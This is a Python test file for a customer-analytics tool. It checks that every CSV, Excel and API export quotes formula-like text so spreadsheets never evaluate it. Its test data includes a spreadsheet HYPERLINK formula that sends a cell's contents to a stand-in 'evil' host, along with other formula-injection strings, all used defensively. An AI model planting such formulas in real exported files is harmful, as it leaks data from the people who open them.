"""Text that a spreadsheet would run as a formula stays text in every file cvm writes: CSV cells
get a quote in front, Excel cells are string cells; numbers stay numbers. Checked on the writers
themselves and on every export path (results folder, target lists, linkage folder, CLV
validation, segment migration, the API's CSV and Excel exports)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import random
import subprocess
import sys
import zipfile
from pathlib import Path

import httpx
import pyarrow as pa
import pytest
from openpyxl import load_workbook

from cvm import results
from cvm.identity.decisions import read_decisions
from cvm.spreadsheet import formula_safe, formula_safe_frame, formula_text

HYPERLINK = '=HYPERLINK("http://evil/?leak="&A2, "x")'
#: Cells a spreadsheet evaluates (or, with a leading tab or carriage return, may evaluate).
PAYLOADS = [HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
QUOTED = ["'" + p for p in PAYLOADS]
CVM = [sys.executable, "-m", "cvm"]


def _cvm(*args) -> subprocess.CompletedProcess:
    proc = subprocess.run([*CVM, *map(str, args)], capture_output=True, text=True, timeout=600,
                          env=dict(os.environ, COLUMNS="160"))
    assert proc.returncode == 0, f"cvm {args} failed:\n{proc.stdout}\n{proc.stderr}"
    return proc


def _csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _sheet(data: bytes | Path) -> tuple[list[str], list[list]]:
    """Header and rows of the first sheet, each cell as (value, data_type); and no formulas."""
    raw = data if isinstance(data, bytes) else Path(data).read_bytes()
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    rows = list(load_workbook(io.BytesIO(raw)).active.iter_rows())
    return [c.value for c in rows[0]], [[(c.value, c.data_type) for c in r] for r in rows[1:]]


def _table() -> pa.Table:
    n = len(PAYLOADS)
    return pa.table({
        "customer_id": PAYLOADS + ["c1", "'=x", "'quoted", None],
        "store": pa.array(PAYLOADS + ["s", "s", "s", "s"]).dictionary_encode(),
        "amount": pa.array([-12.5, 1.0, -3.0, 0.25, 2.0, 3.0, 4.0, 5.0, -1.0, None]),
        "count": pa.array(list(range(-2, n + 2)), pa.int64()),
        "day": pa.array([dt.date(2024, 1, 1 + i) for i in range(n + 4)]),
        "amount_text": ["-12.5"] * (n + 4),
    })


# -- the writers -----------------------------------------------------------------------------

def test_text_cells_are_quoted_and_read_back_exactly():
    table = _table()
    safe = formula_safe(table)
    written = QUOTED + ["c1", "''=x", "'quoted", None]
    assert safe.column("customer_id").to_pylist() == written
    assert safe.column("store").to_pylist() == QUOTED + ["s"] * 4
    assert safe.column("amount_text").to_pylist() == ["'-12.5"] * 10
    for name in ("amount", "count", "day"):
        assert safe.column(name).equals(table.column(name))
    assert safe.schema == table.schema
    assert [formula_text(v) for v in written[:-1]] == table.column("customer_id").to_pylist()[:-1]
    clean = table.select(["amount", "count", "day"])
    assert formula_safe(clean) is clean


def test_record_batches_are_quoted_as_tables_are():
    # the API's CSV export quotes one record batch at a time
    batch = _table().to_batches()[0]
    safe = formula_safe(batch)
    assert isinstance(safe, pa.RecordBatch)
    assert safe.schema == batch.schema
    assert safe.column(0).to_pylist() == QUOTED + ["c1", "''=x", "'quoted", None]
    assert safe.column(1).to_pylist() == QUOTED + ["s"] * 4
    assert safe.column(5).to_pylist() == ["'-12.5"] * 10
    assert safe.column(2).equals(batch.column(2))
    clean = pa.RecordBatch.from_pydict({"id": ["c1", "c2"], "n": [1, 2]})
    assert formula_safe(clean) is clean


def test_pandas_frames_quote_text_and_keep_numbers():
    import pandas as pd

    frame = pd.DataFrame({
        "customer_id": [HYPERLINK, None, "c1", 3, "'=x"],
        "store": pd.array(["+1", None, "s", "@SUM(A1)", "-2"], dtype="string"),
        "amount": [-12.5, 2.0, None, 4.0, -1.0],
        # text held as Arrow strings (the CLV models' frames), plain and large
        "arrow": pd.array(["=1", None, "a", "+x", "b"], dtype=pd.ArrowDtype(pa.string())),
        "large": pd.array(["-1", "z", None, "@y", "c"], dtype=pd.ArrowDtype(pa.large_string())),
        "flags": pd.array([True, False, None, True, False], dtype=pd.ArrowDtype(pa.bool_())),
    })
    safe = formula_safe_frame(frame)
    assert safe["customer_id"].tolist() == ["'" + HYPERLINK, None, "c1", 3, "''=x"]
    assert safe["store"].tolist() == ["'+1", pd.NA, "s", "'@SUM(A1)", "'-2"]
    assert [v if isinstance(v, str) else None for v in safe["arrow"]] == [
        "'=1", None, "a", "'+x", "b"]
    assert [v if isinstance(v, str) else None for v in safe["large"]] == [
        "'-1", "z", None, "'@y", "c"]
    assert safe["flags"].dtype == pd.ArrowDtype(pa.bool_())  # not text: left as it was
    assert safe["amount"].tolist()[:2] == [-12.5, 2.0] and safe["amount"].dtype == "float64"
    # the frame given is left as it was
    assert frame["customer_id"].tolist() == [HYPERLINK, None, "c1", 3, "'=x"]
    assert frame["store"].tolist()[0] == "+1"


def test_results_csv_quotes_text_and_keeps_numbers(tmp_path, monkeypatch):
    for part_rows in (200_000, 3):  # one pass, and in parts on several threads
        monkeypatch.setattr(results, "_CSV_PART_ROWS", part_rows)
        path = tmp_path / f"t{part_rows}.csv"
        results.write_csv(_table(), path)
        rows = _csv(path)
        assert [r["customer_id"] for r in rows] == QUOTED + ["c1", "''=x", "'quoted", ""]
        assert [r["store"] for r in rows] == QUOTED + ["s"] * 4
        assert [r["amount"] for r in rows] == ["-12.5", "1", "-3", "0.25", "2", "3", "4", "5",
                                               "-1", ""]
        assert [r["count"] for r in rows] == [str(i) for i in range(-2, 8)]
        lines = path.read_bytes().decode("utf-8-sig").split("\n")
        assert lines[1] == ('"\'=HYPERLINK(""http://evil/?leak=""&A2, ""x"")",'
                            '"\'=HYPERLINK(""http://evil/?leak=""&A2, ""x"")",'
                            '-12.5,-2,2024-01-01,"\'-12.5"')


def test_excel_tables_hold_text_as_strings(tmp_path):
    results.write_table(_table(), tmp_path / "t.xlsx")
    header, rows = _sheet(tmp_path / "t.xlsx")
    assert header == ["customer_id", "store", "amount", "count", "day", "amount_text"]
    # XML turns a lone carriage return into a line feed; it stays a string either way
    texts = PAYLOADS[:5] + ["\nx"]
    assert [r[0] for r in rows] == [(t, "s") for t in texts + ["c1", "'=x", "'quoted"]] + [
        (None, "n")]
    assert [r[1] for r in rows] == [(t, "s") for t in texts] + [("s", "s")] * 4
    assert [r[2] for r in rows][:3] == [(-12.5, "n"), (1, "n"), (-3, "n")]
    assert rows[0][3] == (-2, "n") and rows[0][4] == (dt.datetime(2024, 1, 1), "d")
    assert rows[0][5] == ("-12.5", "s")


def test_reviewed_pairs_are_read_back_unquoted(tmp_path):
    pairs = pa.table({"source_l": ["crm", "crm"], "source_id_l": ["+1", HYPERLINK],
                      "source_r": ["shop", "shop"], "source_id_r": ["-2+3", "@SUM(A1)"],
                      "decision": ["accept", "reject"]})
    results.write_csv(pairs, tmp_path / "review.csv")
    assert _csv(tmp_path / "review.csv")[0]["source_id_l"] == "'+1"
    got = [(d.source_id_l, d.source_id_r, d.decision)
           for d in read_decisions(tmp_path / "review.csv", "accept")]
    assert got == [("+1", "-2+3", "link"), (HYPERLINK, "@SUM(A1)", "separate")]


def test_module_examples_run():
    import doctest

    import cvm.spreadsheet

    assert doctest.testmod(cvm.spreadsheet).failed == 0


# -- every export path, on customers named and numbered like formulas -----------------------

def _write_data(folder: Path) -> tuple[Path, Path]:
    """Customers whose id, name and city are formulas (leading tabs and carriage returns are
    trimmed at ingest), with purchases in stores named like formulas."""
    rng = random.Random(7)
    formulas = PAYLOADS[:4]
    ids = formulas + [f"c{i:02d}" for i in range(40)]
    people = [["customer_id", "name", "phone", "city"]]
    buys = [["customer_id", "date", "amount", "store"]]
    for i, cid in enumerate(ids):
        people.append([cid, formulas[i % 4], f"1380000{i:04d}", formulas[(i + 1) % 4]])
        day = dt.date(2024, 1, 1) + dt.timedelta(days=rng.randrange(30))
        for k in range(rng.randrange(2, 8)):
            buys.append([cid, day.isoformat(), f"{rng.uniform(5, 200):.2f}", formulas[k % 4]])
            day += dt.timedelta(days=rng.randrange(5, 60))
    buys.append(["c01", "2024-03-01", "-2+3", "s"])  # rejected: the amount is not a number
    folder.mkdir(parents=True, exist_ok=True)
    files = folder / "transactions.csv", folder / "customers.csv"
    for path, rows in zip(files, (buys, people)):
        with path.open("w", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(rows)
    return files


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    root = tmp_path_factory.mktemp("formulas")
    tx, cust = _write_data(root / "data")
    ws = root / "shop.duckdb"
    _cvm("run", tx, "--customers", cust, "--workspace", ws, "--out", root / "results",
         "--as-of", "2024-12-31")
    return root, ws, tx, cust


def _formula_rows(rows: list[dict], key: str = "customer_id") -> dict[str, dict]:
    return {formula_text(r[key]): r for r in rows if formula_text(r[key]) in PAYLOADS}


def test_results_folder(shop):
    root = shop[0]
    rows = _formula_rows(_csv(root / "results" / "customers.csv"))
    assert sorted(rows) == sorted(PAYLOADS[:4])
    for cid, row in rows.items():
        assert row["customer_id"] == "'" + cid and row["name"] == "'" + cid
        assert float(row["monetary_total"]) > 0 and not row["monetary_total"].startswith("'")
    assert rows["+1"]["city"] == "'-2+3" and rows[HYPERLINK]["city"] == "'+1"
    rejected = _csv(root / "results" / "rejects.csv")
    assert [(r["field"], r["value"]) for r in rejected] == [("amount", "'-2+3")]


def test_target_lists(shop):
    root, ws = shop[0], shop[1]
    _cvm("targets", "*-*", "--out", root / "targets.csv", "--workspace", ws)
    rows = _formula_rows(_csv(root / "targets.csv"))
    assert {k: (r["customer_id"], r["name"]) for k, r in rows.items()} == {
        p: ("'" + p, "'" + p) for p in PAYLOADS[:4]}
    assert all(not r["composite_value"].startswith("'") for r in rows.values())
    _cvm("targets", "*-*", "--out", root / "targets.xlsx", "--workspace", ws)
    header, cells = _sheet(root / "targets.xlsx")
    by_id = {r[0][0]: dict(zip(header, r)) for r in cells}
    for p in PAYLOADS[:4]:
        assert by_id[p]["customer_id"] == (p, "s") and by_id[p]["name"] == (p, "s")
        assert by_id[p]["composite_value"][1] == "n"


def test_linkage_folder(shop, tmp_path):
    _, ws, _, cust = shop
    (tmp_path / "link.duckdb").write_bytes(ws.read_bytes())
    # the list's namesakes differ in phone and city: they score about 0.001, so a review
    # threshold below that sends them to review.csv, whose cells are checked here too
    _cvm("link", cust, "--workspace", tmp_path / "link.duckdb", "--out", tmp_path / "link",
         "--review-threshold", "0.000001")
    xref = _csv(tmp_path / "link" / "xref.csv")
    assert {r["source_id"] for r in xref if formula_text(r["source_id"]) in PAYLOADS} == \
        {"'" + p for p in PAYLOADS[:4]}
    golden = _formula_rows(_csv(tmp_path / "link" / "golden.csv"), "name")
    assert sorted(golden) == sorted(PAYLOADS[:4])
    assert all(r["name"].startswith("'") and r["city"].startswith("'") for r in golden.values())
    # normalised phones start with +86: quoted too, so no spreadsheet turns them into numbers
    assert {r["phone"][:4] for r in golden.values()} == {"'+86"}
    review = _csv(tmp_path / "link" / "review.csv")
    ids = {r[f"source_id_{side}"] for r in review for side in ("l", "r")}
    names = {r[f"name_{side}"] for r in review for side in ("l", "r")}
    assert "'" + HYPERLINK in ids and not ids & set(PAYLOADS) and not names & set(PAYLOADS)


def test_clv_validation_and_segment_migration(shop):
    root, ws = shop[0], shop[1]
    _cvm("validate-clv", "--calibration-end", "2024-05-31", "--workspace", ws,
         "--out", root / "validation")
    rows = _formula_rows(_csv(root / "validation" / "clv_validation.csv"))
    assert {k: r["customer_id"] for k, r in rows.items()} == {p: "'" + p for p in PAYLOADS[:4]}
    assert all(not r["predicted_holdout_purchases"].startswith("'") for r in rows.values())
    _cvm("compare", "--as-of", "2024-06-30", "--as-of", "2024-12-31", "--workspace", ws,
         "--out", root / "migration.csv")
    moves = _csv(root / "migration.csv")
    assert moves and all(r["customers"].isdigit() for r in moves)


@pytest.fixture(scope="module")
def export_server(shop, tmp_path_factory):
    """A server on a copy of the workspace in which two customers are named with a leading tab
    and carriage return, and one has a negative total (as a source that kept them would)."""
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    from api.server import Server

    from cvm.api.tokens import create_token
    from cvm.workspace import Workspace

    folder = tmp_path_factory.mktemp("export")
    path = folder / "shop.duckdb"
    path.write_bytes(shop[1].read_bytes())
    with Workspace(path) as ws:
        ws.con.execute("UPDATE run_1_customers SET name = chr(9) || 'x' WHERE customer_id = 'c00'")
        ws.con.execute("UPDATE run_1_customers SET name = chr(13) || 'x' WHERE customer_id = 'c01'")
        ws.con.execute("UPDATE run_1_customers SET monetary_total = -12.5 "
                       "WHERE customer_id = 'c02'")
        tokens = {"analyst": create_token(ws, "analyst", name="exports")}
    server = Server(path, tokens, (shop[2], shop[3])).start(folder / "serve.log")
    yield server
    server.stop()


def test_api_csv_export(export_server):
    with export_server.client("analyst") as api:
        response = api.get("/export", params={"format": "csv", "sort": "customer_id"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    by_id = {formula_text(r["Customer"]): r for r in rows}
    for p in PAYLOADS[:4]:
        assert (by_id[p]["Customer"], by_id[p]["Name"]) == ("'" + p, "'" + p)
    assert by_id["c00"]["Name"] == "'\tx" and by_id["c01"]["Name"] == "'\rx"
    assert by_id["c02"]["Total spend"] == "-12.5"
    assert all(not r["Total spend"].startswith("'") for r in rows)


def test_api_xlsx_export(export_server):
    with export_server.client("analyst") as api:
        response = api.get("/export", params={"format": "xlsx", "sort": "customer_id"})
    assert response.status_code == 200
    header, cells = _sheet(response.content)
    by_id = {r[0][0]: dict(zip(header, r)) for r in cells}
    for p in PAYLOADS[:4]:
        assert (by_id[p]["Customer"], by_id[p]["Name"]) == ((p, "s"), (p, "s"))
    assert by_id["c00"]["Name"] == ("\tx", "s") and by_id["c01"]["Name"] == ("\nx", "s")
    assert by_id["c02"]["Total spend"] == (-12.5, "n")
